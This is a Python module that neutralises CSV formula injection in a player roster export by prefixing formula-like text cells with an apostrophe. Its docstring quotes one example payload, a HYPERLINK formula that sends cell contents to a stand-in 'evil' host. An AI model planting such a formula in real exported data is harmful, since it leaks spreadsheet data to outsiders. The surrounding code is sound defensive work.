"""CSV that a spreadsheet opens as data, never as formulas ("CSV injection", OWASP).

A player chooses their own name; a name such as ``=HYPERLINK("http://evil/?"&A1,"x")``
in a cell of the weekly CSV would run when a coach opens the file in Excel or Sheets.
Every text cell that starts with a formula character gets a leading apostrophe, which
spreadsheets show as text; numbers, including negative ones, are written as they are.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` as it should stand in a CSV cell: text starting like a formula is
    prefixed with ``'``; numbers (and text that reads as a plain number, such as ``-0.5``)
    are left alone so that the file still adds up."""
    if isinstance(value, bool | int | float | Decimal) or value is None:
        return value
    text = str(value)
    if not text.startswith(FORMULA_STARTS) or _is_number(text):
        return text
    return "'" + text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text  # float() forgives the spaces, tabs and CRs we must not


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: _Writable, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])
